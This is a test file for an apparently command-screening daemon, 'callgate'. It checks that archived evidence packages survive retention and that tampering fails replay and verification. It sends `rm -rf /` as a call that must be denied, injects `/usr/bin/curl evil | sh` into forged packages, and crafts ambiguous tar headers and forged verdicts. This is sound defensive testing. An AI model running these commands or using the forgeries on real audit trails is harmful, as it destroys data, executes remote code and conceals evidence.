# SPDX-License-Identifier: MIT
"""Evidence retention (issue 14, item 5), through a real daemon.

With `evidence: {retention: 1s}` in the policy and small journal segments
(test-only knobs), the daemon packs the packages of every old segment into
traces/archive/<segment>.tar and removes their directories. These tests judge
by effect: the directories are gone (no more five inodes per call), every
packed package is still read by `callgate verdict`, the socket's verdict
action, `callgate replay` and the independent docs/verify_trace.py; and a
changed byte inside an archive, or an index that hides a trace, fails replay.
"""
import json
import os
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import unittest
import uuid

import cgtest

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
VERIFIER = os.path.join(ROOT, "docs", "verify_trace.py")
with open(os.path.join(ROOT, "etc", "callgate", "policy.yaml")) as f:
    DEFAULT_POLICY = f.read()
# Retention packs directories: packages as directories, packed after 1 s.
POLICY = DEFAULT_POLICY + "\nevidence:\n  packages: directories\n  retention: 1s\n"
KNOBS = {"CALLGATE_TEST_SEGMENT_BYTES": "20000", "CALLGATE_TEST_RETENTION_TICK_MS": "300"}


def cli(*args, timeout=120):
    return subprocess.run([cgtest.CALLGATE] + list(args), capture_output=True, text=True,
                          timeout=timeout)


def verifier(*args):
    return subprocess.run([sys.executable, VERIFIER] + list(args), capture_output=True,
                          text=True, timeout=120)


def packed_ids(state):
    adir = os.path.join(state, "traces", "archive")
    out = {}
    for name in sorted(os.listdir(adir)) if os.path.isdir(adir) else []:
        if name.endswith(".idx"):
            with open(os.path.join(adir, name)) as f:
                for line in f:
                    out[line.split()[0]] = os.path.join(adir, name[:-4] + ".tar")
    return out


def wait_packed(state, n, timeout=30):
    end = time.time() + timeout
    while time.time() < end:
        p = packed_ids(state)
        if len(p) >= n:
            return p
        time.sleep(0.2)
    raise AssertionError("fewer than %d packed traces" % n)


def rewrite_member(tar, member, fn):
    """Replace member's bytes with fn(bytes) (same length), in place."""
    with tarfile.open(tar, "r:") as tf:
        m = tf.getmember(member)
        off, size = m.offset_data, m.size
    with open(tar, "r+b") as f:
        f.seek(off)
        data = f.read(size)
        new = fn(data)
        assert len(new) == len(data)
        f.seek(off)
        f.write(new)


class Retention(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.d = cgtest.Daemon(policy_text=POLICY, env=KNOBS).start()
        cls.traces = []
        for i in range(30):
            r = cls.d.request(cgtest.make_request([["rm", "-rf", "/"]]))
            cls.traces.append(r["reply"]["trace_id"])
        for i in range(3):
            r = cls.d.request(cgtest.make_request([["/bin/true"]], privileged=False))
            assert r["status"] == "ok", r
            cls.traces.append(r["reply"]["trace_id"])
        # More calls so that the segments holding the ones above are not the last.
        for i in range(12):
            cls.d.request(cgtest.make_request([["rm", "-rf", "/"]]))
        cls.packed = wait_packed(cls.d.state_dir, 25)

    @classmethod
    def tearDownClass(cls):
        cls.d.close()

    def test_packed_directories_are_gone(self):
        traces = os.path.join(self.d.state_dir, "traces")
        # An archive's index is renamed into place before its directories are
        # removed (a reader finds every package at every moment), so give
        # the removal that follows a moment.
        end = time.time() + 15
        left = list(self.packed)
        while left and time.time() < end:
            left = [t for t in left if os.path.exists(os.path.join(traces, t))]
            time.sleep(0.1) if left else None
        for tid in self.packed:
            self.assertFalse(os.path.exists(os.path.join(traces, tid)), tid)
        # Each archive is a plain tar of the five files per trace.
        for tar in set(self.packed.values()):
            with tarfile.open(tar, "r:") as tf:
                names = tf.getnames()
            self.assertEqual(len(names) % 5, 0, names)
        self.assertIn("retention: packed", self.d.log)

    def test_verdict_reads_packed_packages(self):
        tid = next(iter(self.packed))
        p = cli("--state-dir", self.d.state_dir, "verdict", tid, "--json")
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertEqual(json.loads(p.stdout)["trace_id"], tid)
        p = cli("--state-dir", self.d.state_dir, "verdict", tid)
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertIn(tid, p.stdout)
        r = self.d.request({"action": "verdict", "trace_id": tid})
        self.assertEqual(r["reply"]["data"]["verdict"]["trace_id"], tid, r)

    def test_replay_of_a_packed_trace(self):
        tid = next(iter(self.packed))
        p = cli("--state-dir", self.d.state_dir, "replay", tid)
        self.assertEqual(p.returncode, 0, p.stdout + p.stderr)
        self.assertIn("PASS", p.stdout)
        p = cgtest.verify_live([sys.executable, VERIFIER, self.d.state_dir, tid])
        self.assertEqual(p.returncode, 0, p.stdout)


class RetentionTamper(unittest.TestCase):
    """A stopped daemon's state, packed; then changed."""

    def setUp(self):
        self.d = cgtest.Daemon(policy_text=POLICY, env=KNOBS).start()
        for i in range(40):
            self.d.request(cgtest.make_request([["rm", "-rf", "/"]]))
        self.packed = wait_packed(self.d.state_dir, 20)
        self.d.stop()
        self.state = self.d.state_dir

    def tearDown(self):
        self.d.close()

    def replay_all(self):
        return cli("replay", "--all", "--json", "--state-dir", self.state)

    def test_untouched_passes_everywhere(self):
        p = self.replay_all()
        self.assertEqual(p.returncode, 0, p.stdout[-2000:])
        self.assertEqual(json.loads(p.stdout)["summary"]["fail"], 0)
        p = verifier(self.state, "--all")
        self.assertEqual(p.returncode, 0, p.stdout[-2000:])

    def test_a_removal_cut_short_is_swept(self):
        """A crash while packed directories were being removed leaves one
        renamed out of the readers' way, half emptied: readers never take it
        for the package, and the next daemon removes it."""
        tid = next(iter(self.packed))
        left = os.path.join(self.state, "traces", ".packed-" + tid)
        os.mkdir(left)
        with open(os.path.join(left, "verdict.json"), "w") as f:
            f.write("{}")
        p = self.replay_all()
        self.assertEqual(p.returncode, 0, p.stdout[-2000:])
        p = cli("--state-dir", self.state, "verdict", tid, "--json")
        self.assertEqual(json.loads(p.stdout)["trace_id"], tid, p.stdout + p.stderr)
        self.d.start()
        end = time.time() + 20
        while os.path.exists(left) and time.time() < end:
            time.sleep(0.1)
        self.assertFalse(os.path.exists(left))

    def test_changed_verdict_in_an_archive_fails(self):
        tid, tar = next(iter(self.packed.items()))
        rewrite_member(tar, tid + "/verdict.json",
                       lambda b: b.replace(b"BLOCK", b"ALLOW", 1))
        p = self.replay_all()
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("verdict_mismatch", p.stdout)
        self.assertNotEqual(verifier(self.state, "--all").returncode, 0)

    def test_changed_event_in_an_archive_fails(self):
        tid, tar = next(iter(self.packed.items()))
        rewrite_member(tar, tid + "/events.ndjson",
                       lambda b: b.replace(b"rm-recursive", b"rm-RECURSIVE", 1))
        p = self.replay_all()
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("trace_line_mismatch", p.stdout)
        # The report names the difference: the hash fields are the same.
        diffs = [d for d in json.loads(p.stdout)["failures"]
                 if d["check"] == "trace_line_mismatch"]
        self.assertTrue(diffs, p.stdout[-2000:])
        self.assertTrue(diffs[0]["expected"].startswith("recursive"), diffs[0])
        self.assertTrue(diffs[0]["found"].startswith("RECURSIVE"), diffs[0])
        self.assertIn("from byte", diffs[0]["detail"])
        self.assertNotEqual(verifier(self.state, "--all").returncode, 0)

    def test_an_index_that_hides_a_trace_fails(self):
        tid, tar = next(iter(self.packed.items()))
        idx = tar[:-4] + ".idx"
        with open(idx) as f:
            lines = [l for l in f if not l.startswith(tid)]
        with open(idx, "w") as f:
            f.writelines(lines)
        p = self.replay_all()
        self.assertNotEqual(p.returncode, 0)
        self.assertIn("trace_dir_missing", p.stdout)

    def test_an_index_pointing_elsewhere_fails(self):
        tid, tar = next(iter(self.packed.items()))
        idx = tar[:-4] + ".idx"
        with open(idx) as f:
            lines = [l.split() for l in f]
        other = [off for t, off in lines if t != tid][0]
        with open(idx, "w") as f:
            f.writelines("%s %s\n" % (t, other if t == tid else off) for t, off in lines)
        p = self.replay_all()
        self.assertNotEqual(p.returncode, 0)

    def test_a_full_start_does_not_unpack(self):
        """Recovery rebuilds lost packages, but not packed ones, and leaves
        the packed archives as retention wrote them (end-of-archive marker
        included)."""
        tars = set(self.packed.values())
        sizes = {t: os.path.getsize(t) for t in tars}
        self.d.extra_flags = ["--verify-journal"]
        self.d._logf.close()
        self.d._logf = None
        self.d.start()
        self.d.stop()
        traces = os.path.join(self.state, "traces")
        for tid in self.packed:
            self.assertFalse(os.path.exists(os.path.join(traces, tid)), tid)
        self.assertEqual({t: os.path.getsize(t) for t in tars}, sizes)
        p = self.replay_all()
        self.assertEqual(p.returncode, 0, p.stdout[-2000:])


class RetentionWithoutLibarchive(unittest.TestCase):
    """libarchive is loaded on first use; when it cannot be, nothing is lost."""

    def test_a_broken_libarchive_keeps_every_package(self):
        libdir = tempfile.mkdtemp(prefix="cg-nolibarchive-")
        self.addCleanup(shutil.rmtree, libdir, True)
        src = os.path.join(libdir, "empty.c")
        with open(src, "w") as f:
            f.write("int callgate_not_libarchive;\n")
        subprocess.run(["cc", "-shared", "-fPIC", "-o", os.path.join(libdir, "libarchive.so.13"),
                        src], check=True)
        env = dict(KNOBS, LD_LIBRARY_PATH=libdir)
        d = cgtest.Daemon(policy_text=POLICY, env=env).start()
        try:
            ids = [d.request(cgtest.make_request([["rm", "-rf", "/"]]))["reply"]["trace_id"]
                   for _ in range(40)]
            end = time.time() + 30
            while "not packed" not in d.log and time.time() < end:
                time.sleep(0.2)
            self.assertIn("cannot load libarchive", d.log)
            self.assertIn("lacks archive_", d.log)
            self.assertEqual(packed_ids(d.state_dir), {})
            traces = os.path.join(d.state_dir, "traces")
            for tid in ids:
                self.assertTrue(os.path.isdir(os.path.join(traces, tid)), tid)
            self.assertEqual(d.request({"action": "ping"})["status"], "ok")
            p = cli("--state-dir", d.state_dir, "replay", "--all", "--no-write")
            self.assertEqual(p.returncode, 0, p.stdout[-2000:] + p.stderr[-2000:])
        finally:
            d.close()


class ArchivePackages(unittest.TestCase):
    """evidence.packages: archive, the default: packages are appended to their
    segment's archive as they are sealed (docs/evidence.md, "Packages as
    archives"). The shipped policy names no evidence key, so it is the default
    that is tried here."""

    POLICY = DEFAULT_POLICY

    def flood(self, d, n):
        out = []
        for _ in range(n):
            try:
                out.append(d.request(cgtest.make_request([["rm", "-rf", "/"]]), timeout=10))
            except (OSError, ValueError, cgtest.DaemonError):
                break
        return out

    def test_no_directory_per_call_and_every_reader_reads_the_archive(self):
        with cgtest.Daemon(policy_text=self.POLICY) as d:
            ok = d.request(cgtest.make_request([["/bin/true"]], privileged=False))
            self.assertEqual(ok["status"], "ok", ok)
            no = self.flood(d, 20)[-1]
            self.assertEqual(no["status"], "denied", no)
            tids = [ok["reply"]["trace_id"], no["reply"]["trace_id"]]
            packed = {}
            end = time.time() + 30
            while time.time() < end and not all(t in packed for t in tids):
                packed = packed_ids(d.state_dir)
                time.sleep(0.1)
            self.assertTrue(all(t in packed for t in tids), packed)
            traces = os.path.join(d.state_dir, "traces")
            self.assertEqual(sorted(os.listdir(traces)), ["archive"])
            for tid in tids:
                r = d.request({"action": "verdict", "trace_id": tid})
                self.assertEqual(r["reply"]["data"]["verdict"]["trace_id"], tid, r)
            v = json.loads(cli("--state-dir", d.state_dir, "verdict", tids[1], "--json").stdout)
            self.assertEqual((v["decision"], v["executed"]), ("BLOCK", False))
            state = d.state_dir
            d.stop()
            p = cli("--state-dir", state, "replay", "--all")
            self.assertEqual(p.returncode, 0, p.stdout + p.stderr)
            self.assertIn(" pass, 0 fail, 0 incomplete, 0 open", p.stdout)
            p = verifier(state, "--all")
            self.assertEqual(p.returncode, 0, p.stdout)
            # A changed byte of a package in the archive is named.
            rewrite_member(packed[tids[1]], tids[1] + "/verdict.json",
                           lambda b: b.replace(b'"BLOCK"', b'"ALLOW"'))
            p = cli("--state-dir", state, "replay", "--all")
            self.assertEqual(p.returncode, 1, p.stdout)
            self.assertIn("verdict_mismatch", p.stdout)
            self.assertEqual(verifier(state, "--all").returncode, 1)

    def test_killed_mid_flood_the_archive_is_whole_after_restart(self):
        d = cgtest.Daemon(policy_text=self.POLICY)
        try:
            d.start()
            threads = [threading.Thread(target=self.flood, args=(d, 400)) for _ in range(4)]
            for t in threads:
                t.start()
            time.sleep(1.0)
            d.stop(signal.SIGKILL)
            for t in threads:
                t.join(60)
            d.start()
            self.assertEqual(d.request(cgtest.make_request([["rm", "-rf", "/"]]))["status"],
                             "denied")
            d.stop()
            p = cli("--state-dir", d.state_dir, "replay", "--all")
            self.assertEqual(p.returncode, 0, p.stdout + p.stderr)
            p = verifier(d.state_dir, "--all")
            self.assertEqual(p.returncode, 0, p.stdout)
        finally:
            d.close()

    def test_bad_values_are_refused(self):
        with open(os.path.join(ROOT, "etc", "callgate", "policy.yaml")) as f:
            base = f.read()
        tmp = cgtest.Daemon(admin=False)
        try:
            path = os.path.join(tmp.tmp, "p.yaml")
            for value, ok in (("archive", True), ("directories", True), ("zip", False),
                              ("\"\"", False), ("[archive]", False)):
                with open(path, "w") as f:
                    f.write(base + "\nevidence:\n  packages: %s\n" % value)
                p = cli("policy", "check", path)
                self.assertEqual(p.returncode == 0, ok, (value, p.stdout + p.stderr))
                if not ok:
                    self.assertIn("evidence.packages", p.stdout + p.stderr, value)
        finally:
            tmp.close()


def member(name, data):
    """One ustar member as the package writers make it: header, data, padding."""
    ti = tarfile.TarInfo(name)
    ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
    return ti.tobuf(format=tarfile.USTAR_FORMAT) + data + b"\0" * (-len(data) % 512)


class ArchiveTamper(cgtest.TamperCase):
    """The default's archive, the daemon stopped, then changed. Whatever
    shows `tar` or a reader a package the journal does not vouch for fails
    `callgate replay --all` and docs/verify_trace.py --all, by name; nothing
    makes the verifier crash instead of reporting."""

    @classmethod
    def setUpClass(cls):
        cls.keep_calls(5)

    def setUp(self):
        super().setUp()
        adir = os.path.join(self.state, "traces", "archive")
        tars = sorted(n for n in os.listdir(adir) if n.endswith(".tar"))
        self.assertEqual(len(tars), 1, tars)
        self.tar = os.path.join(adir, tars[0])
        self.idx = self.tar[:-4] + ".idx"

    def package(self, tid):
        with tarfile.open(self.tar, "r:") as tf:
            return {m.name.split("/", 1)[1]: tf.extractfile(m).read()
                    for m in tf.getmembers() if m.name.startswith(tid + "/")}

    def append(self, data, index_line=None):
        with open(self.tar, "ab") as f:
            f.write(data)
        if index_line:
            with open(self.idx, "a") as f:
                f.write(index_line)

    def forged(self, tid, like):
        pk = self.package(like)
        pk["verdict.md"] = pk["verdict.md"].replace(b"/bin/true", b"/usr/bin/curl evil | sh")
        return b"".join(member(tid + "/" + n, pk[n]) for n in
                        ("events.ndjson", "verdict.json", "verdict.md", "replay.json",
                         "diff.json"))

    def both_fail(self, check):
        p = cli("replay", "--all", "--json", "--state-dir", self.state)
        self.assertEqual(p.returncode, 1, p.stdout[-2000:] + p.stderr)
        checks = {f["check"] for f in json.loads(p.stdout)["failures"]}
        self.assertIn(check, checks)
        v = verifier(self.state, "--all")
        self.assertEqual(v.returncode, 1, v.stdout[-2000:] + v.stderr[-2000:])
        self.assertNotIn("Traceback", v.stderr)
        return v.stdout

    def both_pass(self):
        p = cli("replay", "--all", "--json", "--state-dir", self.state)
        self.assertEqual(p.returncode, 0, p.stdout[-2000:] + p.stderr)
        v = verifier(self.state, "--all")
        self.assertEqual(v.returncode, 0, v.stdout[-2000:] + v.stderr[-2000:])

    def test_untouched_passes(self):
        self.both_pass()

    def test_a_forged_package_with_its_index_line_fails(self):
        tid, end = str(uuid.uuid4()), os.path.getsize(self.tar)
        self.append(self.forged(tid, self.ids[-1]), "%s %d\n" % (tid, end))
        out = self.both_fail("trace_not_in_journal")
        self.assertIn(tid, out)
        # callgate verdict prints a package by its id: replay is what vouches for it.

    def test_a_forged_package_without_an_index_line_fails(self):
        self.append(self.forged(str(uuid.uuid4()), self.ids[-1]))
        self.both_fail("archive_unindexed")

    def test_a_second_copy_of_a_member_fails(self):
        last = self.ids[-1]
        md = self.package(last)["verdict.md"].replace(b"/bin/true", b"/usr/bin/curl evil | sh")
        self.append(member(last + "/verdict.md", md))
        out = self.both_fail("package_files")
        self.assertIn("appears twice", out)

    def test_a_second_package_of_a_trace_fails(self):
        self.append(self.forged(self.ids[0], self.ids[0]))
        self.both_fail("package_repeated")

    def test_bytes_after_the_last_package_fail(self):
        self.append(os.urandom(700))
        self.both_fail("archive_layout")

    def test_a_package_hidden_after_an_end_marker_fails(self):
        self.append(b"\0" * 1024 + self.forged(str(uuid.uuid4()), self.ids[-1]))
        self.both_fail("archive_layout")

    def test_a_number_field_readers_take_differently_fails(self):
        """tar and tarfile read " \\n123" as 0o123, libarchive as 0: members one
        reader skips, another shows. Such a header is refused, and nothing
        loops on a negative size."""
        last = self.ids[-1]
        md = self.package(last)["verdict.md"]
        # size: tar and tarfile skip the newline, libarchive reads 0; a sign;
        # mode and mtime: tarfile takes a header it cannot read as the end.
        for at, field in ((124, b"\n%010o\0" % len(md)), (124, b"-0000001000\0"),
                          (100, b"00006x4\0"), (136, b"0000000000x\0")):
            self.fresh_state()
            h = bytearray(member(last + "/verdict.md", md)[:512])
            h[at:at + len(field)] = field
            h[148:156] = b"        "
            h[148:155] = b"%06o\0" % sum(h)
            self.append(bytes(h) + md + b"\0" * (-len(md) % 512))
            self.both_fail("archive_layout")

    def test_an_archived_package_behind_a_directory_is_checked_too(self):
        """callgate evidence rebuild writes a directory, read first; the
        archive's copy is what tar shows, and is checked as well."""
        tid = self.ids[0]
        p = cli("evidence", "rebuild", tid, "--state-dir", self.state)
        self.assertEqual(p.returncode, 0, p.stdout + p.stderr)
        self.both_pass()
        with tarfile.open(self.tar, "r:") as tf:
            m = tf.getmember(tid + "/verdict.json")
        with open(self.tar, "r+b") as f:
            f.seek(m.offset_data)
            data = f.read(m.size)
            f.seek(m.offset_data)
            f.write(data.replace(b"BLOCK", b"ALLOW", 1))
        self.both_fail("verdict_mismatch")

    def test_an_index_line_behind_a_directory_pointing_elsewhere_fails(self):
        """The index names another trace's package for a trace a directory
        also holds: callgate readers would take the directory, but the line
        is a lie, and replay says so."""
        tid, other = self.ids[0], self.ids[1]
        p = cli("evidence", "rebuild", tid, "--state-dir", self.state)
        self.assertEqual(p.returncode, 0, p.stdout + p.stderr)
        with open(self.idx) as f:
            lines = [line.split() for line in f]
        off = dict(lines)[other]
        with open(self.idx, "w") as f:
            f.writelines("%s %s\n" % (t, off if t == tid else o) for t, o in lines)
        p = cli("replay", "--all", "--json", "--state-dir", self.state)
        self.assertEqual(p.returncode, 1, p.stdout[-2000:])
        self.assertIn("trace_dir_missing", {f["check"] for f in json.loads(p.stdout)["failures"]})

    def test_zeros_after_the_last_package_are_not_a_failure(self):
        """An end-of-archive marker, or less than a block of zeros: both
        verifiers take them as tar readers do."""
        for n in (511, 1024, 10240):
            self.fresh_state()
            self.append(b"\0" * n)
            self.both_pass()

    def test_an_empty_archive_is_not_a_failure(self):
        """A daemon killed just after making a segment's archive leaves it empty."""
        for ext in (".tar", ".idx"):
            open(os.path.join(os.path.dirname(self.tar), "0000000000999999" + ext), "w").close()
        self.both_pass()

    def test_a_lost_index_is_rebuilt_at_the_next_start(self):
        size = os.path.getsize(self.tar)
        with open(self.idx) as f:
            lines = f.read()
        os.unlink(self.idx)
        d = cgtest.Daemon()
        shutil.copytree(self.state, d.state_dir)
        with d:
            d.stop()
            self.assertEqual(os.path.getsize(os.path.join(
                d.state_dir, "traces", "archive", os.path.basename(self.tar))), size)
            with open(os.path.join(d.state_dir, "traces", "archive",
                                   os.path.basename(self.idx))) as f:
                self.assertEqual(f.read(), lines)
            self.assertEqual(sorted(os.listdir(os.path.join(d.state_dir, "traces"))),
                             ["archive"], "no package rebuilt as a directory")
            p = cli("replay", "--all", "--state-dir", d.state_dir)
            self.assertEqual(p.returncode, 0, p.stdout[-2000:])


class VerifierTamper(cgtest.TamperCase):
    """docs/verify_trace.py on a stopped daemon's state (packages in the
    default archive), changed as an attacker would (notes/attack-s32-evidence,
    findings 5 to 12): every change is a named failure, never a pass, a
    traceback or a hang; the untouched state passes."""

    @classmethod
    def setUpClass(cls):
        with cgtest.Daemon() as d:
            cls.refused = d.request(cgtest.make_request([["rm", "-rf", "/"]]))["reply"]["trace_id"]
            ok = d.request(cgtest.make_request([["/bin/true"]], privileged=False))
            cls.ran = ok["reply"]["trace_id"]
            cgtest.wait_package_file(d.state_dir, cls.ran, "verdict.md")
            d.stop()
            cls.keep(d.state_dir)

    def setUp(self):
        super().setUp()
        self.adir = os.path.join(self.state, "traces", "archive")
        self.tar = os.path.join(self.adir, sorted(n for n in os.listdir(self.adir)
                                                  if n.endswith(".tar"))[0])
        self.idx = self.tar[:-4] + ".idx"
        self.jdir = os.path.join(self.state, "journal")
        self.segment = os.path.join(self.jdir, sorted(
            n for n in os.listdir(self.jdir) if n.endswith(".ndjson"))[-1])

    def verifier_fails(self, check, *args):
        """verify_trace.py (--all unless args) fails, naming check, and does not crash."""
        v = subprocess.run([sys.executable, VERIFIER, self.state] + list(args or ["--all"]),
                           capture_output=True, text=True, timeout=60)
        self.assertEqual(v.returncode, 1, v.stdout[-2000:] + v.stderr[-2000:])
        self.assertNotIn("Traceback", v.stdout + v.stderr)
        self.assertIn(" " + check + ":", v.stdout)
        return v.stdout

    def replay_fails(self, check):
        p = cli("replay", "--all", "--json", "--no-write", "--state-dir", self.state)
        self.assertEqual(p.returncode, 1, p.stdout[-2000:] + p.stderr)
        self.assertIn(check, {f["check"] for f in json.loads(p.stdout)["failures"]})

    def rewrite(self, tid, name, fn):
        """The archive written again with fn applied to member tid/name (its
        size may change), and its index to match."""
        with tarfile.open(self.tar, "r:") as tf:
            members = [(m.name, tf.extractfile(m).read()) for m in tf]
        tar, idx, last = b"", "", None
        for n, data in members:
            top = n.split("/", 1)[0]
            if top != last:
                idx, last = idx + "%s %d\n" % (top, len(tar)), top
            tar += member(n, fn(data) if n == tid + "/" + name else data)
        with open(self.tar, "wb") as f:
            f.write(tar)
        with open(self.idx, "w") as f:
            f.write(idx)

    def edit_verdict(self, tid, fn):
        def edit(data):
            v = json.loads(data)
            fn(v)
            return (json.dumps(v, indent=2) + "\n").encode()
        self.rewrite(tid, "verdict.json", edit)

    def test_untouched_and_rewritten_state_passes(self):
        self.rewrite(self.ran, "verdict.json", lambda b: b)  # the same bytes, written again
        for args in (["--all"], [self.refused], [self.ran]):
            v = subprocess.run([sys.executable, VERIFIER, self.state] + args,
                               capture_output=True, text=True, timeout=60)
            self.assertEqual(v.returncode, 0, v.stdout + v.stderr)
        p = cli("replay", "--all", "--no-write", "--state-dir", self.state)
        self.assertEqual(p.returncode, 0, p.stdout[-2000:] + p.stderr)

    def test_a_member_twice_in_verdict_json_fails(self):
        """Forged values first, the real ones last: a last-wins parser sees
        the real verdict, a first-wins reader (or a person) the forged one."""
        self.rewrite(self.refused, "verdict.json", lambda b: b.replace(
            b"{", b'{"decision": "ALLOW", "executed": true, "outcome": "allowed", ', 1))
        out = self.verifier_fails("verdict_mismatch")
        self.assertIn("appears twice", out)

    def test_every_member_of_verdict_json_is_checked(self):
        """Each member, and its JSON type: 1, 1.0 and true are not the same."""
        def put(path, value):
            def fn(v):
                for k in path[:-1]:
                    v = v[k]
                v[path[-1]] = value
            return fn
        edits = {self.refused: [
            (("outcome",), "allowed"), (("blocked",), []),
            (("next_steps",), ["Retry this exact call with privileged=true."]),
            (("decided_by", "rung"), "approval"), (("decided_by", "decision"), "ALLOW"),
            (("call", "cwd"), "/home/victim"),
            (("summary",), "Allowed: the operator approved this recursive delete."),
            (("why",), [{"rung": "approval", "decision": "ALLOW"}]),
            (("trace_id",), self.ran), (("confidence",), 0.01), (("confidence",), 1),
            (("executed",), 0), (("policy", "generation"), 1.0)],
            self.ran: [
            (("outcome",), "blocked"), (("duration_ms",), 999999),
            (("call", "cwd"), "/nowhere"), (("call", "privileged"), True),
            (("run", "confined"), False), (("run", "network"), {"mode": "full"}),
            (("screening",), []), (("timed_out",), 0), (("exit_codes",), [0.0]),
            (("executed",), 1), (("decided_by", "rule_id"), "someone-else")]}
        for tid, changes in edits.items():
            for path, value in changes:
                with self.subTest(tid=tid, member=path, value=value):
                    self.fresh_state()
                    self.edit_verdict(tid, put(path, value))
                    out = self.verifier_fails("verdict_mismatch", tid)
                    self.assertIn(path[0], out)
                    self.replay_fails("verdict_mismatch")

    def test_a_trace_appended_after_the_last_checkpoint_fails(self):
        """A copy of the refusal under a new id, chained after the journal's
        head with its hashes recomputed, and its package: no checkpoint
        names it (head_unsigned)."""
        with open(self.segment, "rb") as f:
            lines = f.readlines()
        mine = [l for l in lines if json.loads(l)["trace"] == self.refused]
        last = json.loads(lines[-1])
        new = str(uuid.uuid4())
        line = cgtest.rechain(mine[0], last["seq"] + 1, last["hash"], self.refused, new)
        with open(self.segment, "ab") as f:
            f.write(line)
        with tarfile.open(self.tar, "r:") as tf:
            pk = {m.name.split("/", 1)[1]: tf.extractfile(m).read() for m in tf
                  if m.name.startswith(self.refused + "/")}
        pk = {n: d.replace(self.refused.encode(), new.encode()) for n, d in pk.items()}
        pk["events.ndjson"] = line
        end = os.path.getsize(self.tar)
        with open(self.tar, "ab") as f:
            f.write(b"".join(member(new + "/" + n, pk[n]) for n in sorted(pk)))
        with open(self.idx, "a") as f:
            f.write("%s %d\n" % (new, end))
        for args in (["--all"], [new]):
            out = self.verifier_fails("head_unsigned", *args)
            self.assertNotIn("verdict_mismatch", out)  # only the missing signature tells
        self.replay_fails("head_unsigned")

    def test_a_package_the_journal_does_not_hold_fails(self):
        """A directory in traces/ for a trace the journal does not hold, or
        named after the journal's own trace id."""
        with tarfile.open(self.tar, "r:") as tf:
            pk = {m.name.split("/", 1)[1]: tf.extractfile(m).read() for m in tf
                  if m.name.startswith(self.ran + "/")}
        for name in (str(uuid.uuid4()), "journal"):
            with self.subTest(name=name):
                self.fresh_state()
                os.makedirs(os.path.join(self.state, "traces", name))
                for n, data in pk.items():
                    with open(os.path.join(self.state, "traces", name, n), "wb") as f:
                        f.write(data.replace(self.ran.encode(), name.encode()))
                self.assertIn(name, self.verifier_fails("trace_not_in_journal"))
                self.replay_fails("trace_not_in_journal")

    def test_files_callgate_does_not_read_are_reported(self):
        """A tar (and index) whose name callgate skips, and a journal file
        that is not a segment's name: tar and a reader by hand see them,
        callgate does not; the verifier says so rather than reading or
        skipping them."""
        for name in ("0000000000000001-copy-from-backup-2026-11", ".0000000000000009"):
            with self.subTest(name=name):
                self.fresh_state()
                for ext in (".tar", ".idx"):
                    shutil.copy(self.tar[:-4] + ext, os.path.join(self.adir, name + ext))
                out = self.verifier_fails("archive_layout")
                self.assertIn(name + ".tar", out)
                self.assertIn(name + ".idx", out)
        self.fresh_state()
        with open(self.segment, "rb") as f:
            first = f.readline()
        with open(os.path.join(self.jdir, "00000000000000zz.ndjson"), "wb") as f:
            f.write(first)
        self.assertIn("00000000000000zz.ndjson", self.verifier_fails("schema"))

    def test_an_unreadable_device_number_fails(self):
        """devmajor "1\\0zzzzz": Python's tarfile reads 1, other readers may
        not; callgate's writers leave both fields zero."""
        with open(self.idx) as f:
            off = int(f.readline().split()[1])
        with open(self.tar, "r+b") as f:
            f.seek(off)
            h = bytearray(f.read(512))
            h[329:337] = b"1\0zzzzz\0"
            h[148:156] = b"        "
            h[148:155] = b"%06o\0" % sum(h)
            f.seek(off)
            f.write(h)
        self.assertIn("offset %d" % off, self.verifier_fails("archive_layout"))

    def test_malformed_files_are_named_failures(self):
        for junk in (b"\xff\xfe not json", b"{not json", b"[]", b"null",
                     b'{"call":{"stages":[1]}}', b'{"run":5}', b"[" * 100000,
                     b'{"confidence": NaN}'):
            for tid in (self.refused, self.ran):
                with self.subTest(junk=junk[:20], tid=tid):
                    self.fresh_state()
                    self.rewrite(tid, "verdict.json", lambda b: junk)
                    self.verifier_fails("verdict_mismatch")
        for junk in (b"garbage\n", b'{"seq":"5","head":"x"}\n', b'{"head":"x"}\n', b"[]\n",
                     b'{"seq":1,"seq":1,"head":"x"}\n', b"\xff\n"):
            with self.subTest(checkpoint=junk):
                self.fresh_state()
                with open(os.path.join(self.state, "checkpoints.ndjson"), "ab") as f:
                    f.write(junk)
                self.verifier_fails("checkpoint_schema")

    def test_a_fifo_does_not_hang_the_verifier(self):
        """Nothing under the state directory is opened unless it is a
        regular file (opening a FIFO blocks until a writer comes)."""
        for path, check in ((self.idx, "archive_unreadable"), (self.tar, "archive_unreadable"),
                            (os.path.join(self.state, "checkpoints.ndjson"),
                             "checkpoint_missing"),
                            (self.segment, "unreadable")):
            with self.subTest(path=os.path.basename(path)):
                self.fresh_state()
                os.unlink(path)
                os.mkfifo(path)
                self.verifier_fails(check)


class ReservedTraceId(cgtest.TamperCase):
    """`journal` is the trace id of the journal's own events (a `recovery`
    event after a torn tail): a trace the journal holds, but never one with a
    package. A package of that name, as a directory or in an archive with an
    index line, is a forgery docs/verify_trace.py --all reports."""

    @classmethod
    def setUpClass(cls):
        d = cgtest.Daemon()
        try:
            d.start()
            cls.refused = d.request(cgtest.make_request([["rm", "-rf", "/"]]))["reply"]["trace_id"]
            cgtest.wait_package_file(d.state_dir, cls.refused, "verdict.md")
            d.stop()
            jdir = os.path.join(d.state_dir, "journal")
            seg = sorted(n for n in os.listdir(jdir) if n.endswith(".ndjson"))[-1]
            with open(os.path.join(jdir, seg), "ab") as f:
                f.write(b'{"seq":')  # a torn write: set aside, and a recovery event says so
            if d._logf:
                d._logf.close()
                d._logf = None
            d.start()
            d.stop()
            types = {(e["trace"], e["type"]) for e in map(json.loads,
                                                          cgtest.journal_lines(d.state_dir))}
            assert ("journal", "recovery") in types, types
            cls.keep(d.state_dir)
        finally:
            d.close()

    def setUp(self):
        super().setUp()
        adir = os.path.join(self.state, "traces", "archive")
        self.tar = os.path.join(adir, sorted(n for n in os.listdir(adir)
                                             if n.endswith(".tar"))[0])
        with tarfile.open(self.tar, "r:") as tf:
            self.pk = {m.name.split("/", 1)[1]: tf.extractfile(m).read().replace(
